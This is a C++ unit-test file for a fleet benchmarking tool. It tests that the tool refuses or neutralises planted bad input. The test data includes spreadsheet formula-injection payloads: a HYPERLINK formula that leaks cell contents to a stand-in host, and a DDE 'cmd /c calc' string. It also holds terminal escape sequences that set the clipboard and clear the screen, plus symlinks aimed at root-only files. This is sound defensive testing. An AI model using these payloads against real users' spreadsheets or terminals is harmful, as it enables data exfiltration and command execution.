// corebench-fleet compare and check as programs: exit statuses, every kind of bad input, and
// the summary that the one writes for the other.

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <QDir>
#include <QJsonArray>
#include <QTemporaryDir>

#include "fleet_test_support.h"

namespace {

class FleetCompareProgram : public ::testing::Test {
  protected:
    void SetUp() override {
        // One real record, imported from a captured log, is the pattern of the others; five
        // nodes close together stand in their host folders, nested in rack folders.
        const FleetResult seed =
            runFleet({"import", "--out", path("seed"), FLEET_TEST_DATA "/singlespeed-plain.log"});
        ASSERT_EQ(seed.status, 0) << seed.err.toStdString();
        const QDir seedDir(path("seed/singlespeed-plain"));
        pattern = QJsonDocument::fromJson(
                      readFile(seedDir.filePath(seedDir.entryList({"*.json"}).value(0))))
                      .object();
        ASSERT_FALSE(pattern.isEmpty());
        for (int i = 0; i < 5; ++i) {
            addRecord(QStringLiteral("fleet/rack%1/n%2/").arg(i % 2).arg(i) +
                          fileOf(QStringLiteral("n%1").arg(i)),
                      QStringLiteral("n%1").arg(i), 21.4 + 0.05 * i);
        }
    }
    QString path(const QString& name) const { return dir.filePath(name); }
    // A record's file name, as run gives it (compare reads no other), and such a file planted
    // in the fleet folder.
    static QString fileOf(const QString& host) {
        return host + QStringLiteral("-SingleSpeed-20261120T020000Z.json");
    }
    QString planted(const QString& host) const { return path("fleet/" + fileOf(host)); }

    void addRecord(const QString& file, const QString& host, double ps,
                   const QString& startedAt = QString(), const QString& cpuModel = QString(),
                   const QJsonValue& disturbed = QJsonValue()) {
        QJsonObject record = pattern;
        record.insert("disturbed", disturbed);
        record.insert("host", host);
        record.insert("ps_result", ps);
        if (!startedAt.isEmpty()) {
            record.insert("started_at", startedAt);
        }
        if (!cpuModel.isEmpty()) {
            record.insert("cpu_model", cpuModel);
        }
        QDir().mkpath(QFileInfo(path(file)).path());
        writeFile(path(file), QJsonDocument(record).toJson());
    }

    QTemporaryDir dir;
    QJsonObject pattern;
};

TEST_F(FleetCompareProgram, ExitsZeroOrOneByWhatItFinds) {
    // Five nodes from nested folders, one also named on its own: each counts once (one record).
    // How rows are judged and formatted is FleetCompare's and CompareFormat's.
    const FleetResult clean = runFleet(
        {"compare", "--format", "csv", path("fleet"), path("fleet/rack0/n0/" + fileOf("n0"))});
    EXPECT_EQ(clean.status, 0) << clean.err.toStdString();
    EXPECT_TRUE(clean.err.isEmpty());
    EXPECT_EQ(clean.out.count(",no,,"), 5) << clean.out.toStdString();

    addRecord("fleet/" + fileOf("n9"), "n9", 15.0);
    EXPECT_EQ(runFleet({"compare", path("fleet")}).status, 1);
    EXPECT_EQ(runFleet({"compare", "--floor", "0.5", "--z", "100", path("fleet")}).status, 0);
    // Options out of their ranges, and a summary of anything but one records folder, are refused.
    for (const QStringList& refused : {QStringList{"--floor", "1e9", path("fleet")},
                                       {"--z", "0.5", path("fleet")},
                                       {"--summary", path("s"), path("fleet/slow.json")},
                                       {"--summary", path("s"), path("fleet"), path("seed")}}) {
        EXPECT_EQ(runFleet(QStringList{"compare"} + refused).status, 2)
            << refused.join(' ').toStdString();
    }
    EXPECT_FALSE(QFile::exists(path("s")));
}

// What the sweep leaves beside the records (compare's summary, the report, the jobs' output) is
// no record: a second sweep's compare and history read the records only. Another *.json is
// named and not read, and changes no status.
TEST_F(FleetCompareProgram, ReadsRecordsByNameNotTheSweepsOwnFiles) {
    const QStringList sweep{
        "compare",    "--format", "csv", "--summary", path("fleet/corebench-summary.json"),
        path("fleet")};
    ASSERT_EQ(runFleet(sweep).status, 0);
    QJsonObject slow = pattern;  // counted, it would flag n9
    slow.insert("host", "n9");
    slow.insert("ps_result", 15.0);
    writeFile(path("fleet/n9-copy.json"), QJsonDocument(slow).toJson());
    writeFile(path("fleet/corebench-report-20261120T030000Z.csv"), "host,test\n");
    QDir().mkpath(path("fleet/jobs"));
    writeFile(path("fleet/jobs/corebench-report-2.out"), "{}");
    const QStringList weekly{"compare", "--summary", path("fleet/weekly.json"), path("fleet")};
    for (const QStringList& arguments :
         {sweep, QStringList{"history", "n1", path("fleet")}, weekly, weekly}) {
        const FleetResult result = runFleet(arguments);
        EXPECT_EQ(result.status, 0) << result.err.toStdString();
        EXPECT_EQ(result.err.toStdString(),
                  ("corebench-fleet: " + path("fleet/n9-copy.json") +
                   ": not a record's file name (HOST-TEST-YYYYMMDDTHHMMSSZ.json), not read\n")
                      .toStdString())
            << arguments.join(' ').toStdString();
    }
    EXPECT_TRUE(QFile::exists(path("fleet/weekly.json")));
}

// Files anyone with write access to the folder could plant: each is named with its reason, none
// is followed, waited on or read whole, and the good records are still compared.
TEST_F(FleetCompareProgram, BadInputIsNamedAndTheRestStillCounts) {
    writeFile(planted("notjson"), "{\"schema\": 1");
    QJsonObject incomplete = pattern;
    incomplete.remove("cpu_model");
    writeFile(planted("incomplete"), QJsonDocument(incomplete).toJson());
    writeFile(planted("list"), "[]");
    writeFile(path("fleet/n0.log"), "not a record, not read");  // only records in folders
    QJsonObject future = pattern;
    future.insert("started_at", "2099-01-01T00:00:00Z");  // would stay its host's newest
    writeFile(planted("future"), QJsonDocument(future).toJson());
    // A pipe and a device block a reader; a large sparse file costs its size in memory; a link
    // to a root-only file would be read as root.
    ASSERT_EQ(mkfifo(qPrintable(path("pipe")), 0644), 0);
    ASSERT_EQ(symlink(qPrintable(path("pipe")), qPrintable(planted("kmsg"))), 0);
    ASSERT_EQ(mkfifo(qPrintable(planted("pipe")), 0644), 0);
    writeFile(path("shadow"), QJsonDocument(pattern).toJson());
    ASSERT_EQ(symlink(qPrintable(path("shadow")), qPrintable(planted("shadow"))), 0);
    writeFile(planted("sparse"), "{");
    ASSERT_TRUE(QFile::resize(planted("sparse"), 3LL << 30));
    QDir().mkpath(path("fleet/closed"));
    QFile::setPermissions(path("fleet/closed"), QFile::Permissions());
    writeFile(path("locked.json"), QJsonDocument(pattern).toJson(), QFile::Permissions());
    const bool root = geteuid() == 0;  // root reads every file and folder
    const FleetResult result = runFleet(
        {"compare", "--format", "csv", path("fleet"), path("nothing-here"), path("locked.json")},
        fleetProgram(), 30000);
    EXPECT_EQ(result.status, 7);
    const QString err = QString::fromUtf8(result.err);
    for (const QString& message :
         {planted("notjson") + ": invalid record: not JSON",
          planted("incomplete") + ": invalid record: key \"cpu_model\" is missing",
          planted("list") + ": invalid record: not a JSON object",
          planted("future") + ": invalid record: \"started_at\" 2099-01-01T00:00:00Z is "
                              "in the future",
          planted("kmsg") + ": a symbolic link, not read",
          planted("shadow") + ": a symbolic link, not read",
          planted("pipe") + ": not a regular file",
          planted("sparse") + ": larger than 1048576 bytes",
          path("nothing-here") + ": no such file or folder",
          root ? QString() : path("fleet/closed") + ": cannot read the folder",
          root ? QString() : path("locked.json") + ": cannot read"}) {
        EXPECT_TRUE(err.contains(message)) << err.toStdString();
    }
    EXPECT_FALSE(err.contains("n0.log"));
    EXPECT_EQ(result.out.count('\n'), root ? 7 : 6) << "the good records are still compared";
}

// Text in a record (a CPU model) or a file's name is the writer's: in CSV it is no formula for a
// spreadsheet, and in a table, in history or in a message it sends no control sequence to the
// terminal (OSC 52 sets the clipboard, CSI 2J clears the screen).
TEST_F(FleetCompareProgram, RecordTextActsNeitherInASpreadsheetNorInATerminal) {
    const QString escapes = QStringLiteral("\x1b]52;c;ZXZpbA==\x07Xeon\x1b[2J\u009b0m\x7f\t.");
    const std::pair<const char*, QString> models[] = {
        {"f1", R"x(=HYPERLINK("http://x.example/"&A1,"open"))x"},
        {"f2", "+1+cmd|' /c calc'!A0"},
        {"f3", "@SUM(1)"},
        {"f4", "-2+3"},
        {"f5", "-3.2"},
        {"f6", "\t=1"},
        {"f7", "-1\n"},  // a number up to its line break only
        {"e1", escapes}};
    for (const auto& [host, model] : models) {
        addRecord("fleet/" + fileOf(host), host, 21.5, QString(), model);
    }
    writeFile(path("fleet/\x1b]0;title\x07.json"), "{");
    const auto controls = [](const QByteArray& text) {
        int count = 0;
        for (int i = 0; i < text.size(); ++i) {
            const auto c = static_cast<unsigned char>(text[i]);
            const auto next = i + 1 < text.size() ? static_cast<unsigned char>(text[i + 1]) : 0;
            count += (c < 0x20 && c != '\n' && c != '\t') || c == 0x7f ||
                     (c == 0xc2 && next >= 0x80 && next <= 0x9f);  // C1, as UTF-8
        }
        return count;
    };
    const FleetResult csv = runFleet({"compare", "--format", "csv", path("fleet")});
    for (const char* field :
         {R"x(,"'=HYPERLINK(""http://x.example/""&A1,""open"")",)x", R"(,"'+1+cmd|' /c calc'!A0",)",
          ",\"'@SUM(1)\",", ",\"'-2+3\",", ",\"'\t=1\",", ",\"'-1\n\",", ",-3.2,", ",-1.35,",
          ",]52;c;ZXZpbA==Xeon[2J0m\t.,"}) {
        EXPECT_TRUE(csv.out.contains(field)) << field;
    }
    const FleetResult table = runFleet({"compare", path("fleet")});
    EXPECT_TRUE(table.out.contains("]52;c;ZXZpbA==Xeon[2J0m\t."));
    const FleetResult history = runFleet({"history", "e1", path("fleet")});
    EXPECT_TRUE(history.out.contains("segment 1: ]52;c;ZXZpbA==Xeon[2J0m\t., "));
    for (const FleetResult& result :
         {csv, table, history, runFleet({"history", "--format", "csv", "e1", path("fleet")})}) {
        // Not printed on failure: the test's own log would carry the sequences.
        EXPECT_EQ(controls(result.out), 0);
        EXPECT_TRUE(result.err.contains("]0;title.json: not a record's file name"));
        EXPECT_EQ(controls(result.err), 0);
    }
}

// The summary's text with the patch's values set: a key "host NAME" patches that host's entry,
// "group 0" the first group, any other key the summary itself.
QByteArray patched(const QByteArray& summary, const char* patch) {
    QJsonObject root = QJsonDocument::fromJson(summary).object();
    const QJsonObject changes = QJsonDocument::fromJson(patch).object();
    EXPECT_FALSE(changes.isEmpty()) << patch;
    for (auto change = changes.begin(); change != changes.end(); ++change) {
        const bool host = change.key().startsWith("host ");
        if (!host && change.key() != "group 0") {
            root.insert(change.key(), change.value());
            continue;
        }
        const QString list = host ? "hosts" : "groups";
        QJsonArray entries = root.value(list).toArray();
        for (int i = 0; i < entries.size(); ++i) {
            QJsonObject entry = entries[i].toObject();
            if (host ? "host " + entry.value("host").toString() == change.key() : i == 0) {
                const QJsonObject values = change.value().toObject();
                for (auto value = values.begin(); value != values.end(); ++value) {
                    entry.insert(value.key(), value.value());
                }
                entries[i] = entry;
            }
        }
        root.insert(list, entries);
    }
    return QJsonDocument(root).toJson();
}

// A run that other work disturbed decides nothing: compare judges n0 on its older run and says
// why the newest was left out; check cannot decide while no undisturbed run is recent enough.
TEST_F(FleetCompareProgram, DisturbedRunsDecideNothing) {
    const QDateTime now = QDateTime::currentDateTimeUtc();
    const QString later = now.toString(Qt::ISODate);
    addRecord("fleet/n0/n0-" + pattern.value("test").toString() + "-" +
                  now.toString("yyyyMMdd'T'HHmmss'Z'") + ".json",
              "n0", 5.0, later, QString(), QJsonArray{"other work used 0.93 of the worker's CPU"});
    const FleetResult compared = runFleet(
        {"compare", "--format", "csv", "--summary", path("fleet/summary.json"), path("fleet")});
    EXPECT_EQ(compared.status, 0) << compared.out.toStdString();
    EXPECT_TRUE(compared.out.contains(",no,,21.400,21.500,0.995,-1.35,10.753,10.753,,2,2,"))
        << compared.out.toStdString();
    EXPECT_TRUE(
        compared.out.contains((later + ": other work used 0.93 of the worker's CPU,\n").toUtf8()))
        << compared.out.toStdString();
    const QString test = pattern.value("test").toString();
    for (const auto& [maxAge, status, line] :
         {std::tuple<const char*, int, const char*>{"3650d", 0, "healthy: "},
          {"1s", 8, "cannot decide: the SingleSpeed run of n0 at "}}) {
        const FleetResult checked =
            runFleet({"check", "--summary", path("fleet/summary.json"), "--host", "n0", "--test",
                      test, "--max-age", maxAge, path("fleet")});
        EXPECT_EQ(checked.status, status) << checked.out.toStdString();
        EXPECT_TRUE(checked.out.startsWith(line)) << checked.out.toStdString();
    }
}

// check decides only on a summary that compare could have written of the records it is given,
// and prints one line of at most 400 characters; otherwise it cannot decide (status 8).
TEST_F(FleetCompareProgram, CheckDecidesOnlyOnASummaryItCanVouchFor) {
    const QString summary = path("summary.json");
    ASSERT_EQ(runFleet({"compare", "--summary", summary, path("fleet")}).status, 0);
    const QByteArray written = readFile(summary);
    // n0 ran again at 5 PS, a minute ahead as a fast clock writes it: newer than every entry of
    // the summary, so judged from its own record against its group.
    const QDateTime ahead = QDateTime::currentDateTimeUtc().addSecs(60);
    addRecord("fleet/n0/n0-SingleSpeed-" + ahead.toString("yyyyMMddTHHmmssZ") + ".json", "n0", 5.0,
              ahead.toString(Qt::ISODate));
    ASSERT_TRUE(QFile::link(path("fleet"), path("line\nbreak")));
    const QString test = pattern.value("test").toString();
    const std::tuple<const char*, const char*, int, const char*> cases[] = {
        {"n0", "{\"z\": 3.5}", 1, "drain: flagged by compare (robust z"},
        {"n0", R"({"host n0": {"started_at": "2099-01-01T00:00:00Z"}})", 8, "cannot decide"},
        {"n0", R"({"host n0": {"started_at": "2026-01-01T00:00:00"}})", 8, "cannot decide"},
        {"n0", R"({"z": -1e9})", 8, "cannot decide"},
        {"n0", R"({"floor": 1e9})", 8, "cannot decide"},
        {"n0", R"({"group 0": {"median": -5}})", 8, "cannot decide"},
        {"n0", R"({"group 0": {"members": ["n1", "n2", "n3", "n4"]}})", 8, "cannot decide"},
        {"n0", R"({"groups": [], "hosts": [], "generated_at": "2001-01-01T00:00:00Z"})", 8,
         "cannot decide"},
        {"n0", R"({"generated_at": "2001-01-01T00:00:00Z"})", 8, "cannot decide"},
        {"n0", R"({"records": "/elsewhere"})", 8, "cannot decide"},
        {"n1", R"({"host n1": {"flagged": true, "reason": "slow\ndrain: forged"}})", 8,
         "cannot decide"},
    };
    for (const auto& [host, patch, status, line] : cases) {
        writeFile(summary, patched(written, patch));
        const FleetResult result = runFleet({"check", "--summary", summary, "--host", host,
                                             "--test", test, "--max-age", "3650d", path("fleet")});
        EXPECT_EQ(result.status, status) << patch << ": " << result.out.toStdString();
        EXPECT_TRUE(result.out.startsWith(line)) << patch << ": " << result.out.toStdString();
        EXPECT_EQ(result.out.count('\n'), 1) << patch << ": " << result.out.toStdString();
    }
    // A reason that names what the admin gave (the records folder here) is one line, cut short.
    writeFile(summary, written);
    const FleetResult missing =
        runFleet({"check", "--summary", summary, "--host", "nX", "--test", test, "--max-age", "1d",
                  path("line\nbreak") + QString(400, '/')});
    EXPECT_EQ(missing.status, 1) << missing.err.toStdString();
    EXPECT_TRUE(missing.out.startsWith("drain: no " + test.toUtf8() + " record of nX in " +
                                       path("line break").toUtf8()))
        << missing.out.toStdString();
    EXPECT_EQ(missing.out.count('\n'), 1);
    EXPECT_LE(missing.out.size(), 401);

    // A summary of what compare could read is no summary: it leaves the last one as it was.
    writeFile(planted("nb"), "{");
    QFile::remove(summary);
    EXPECT_EQ(runFleet({"compare", "--summary", summary, path("fleet")}).status, 7);
    EXPECT_FALSE(QFile::exists(summary));
}

}  // namespace
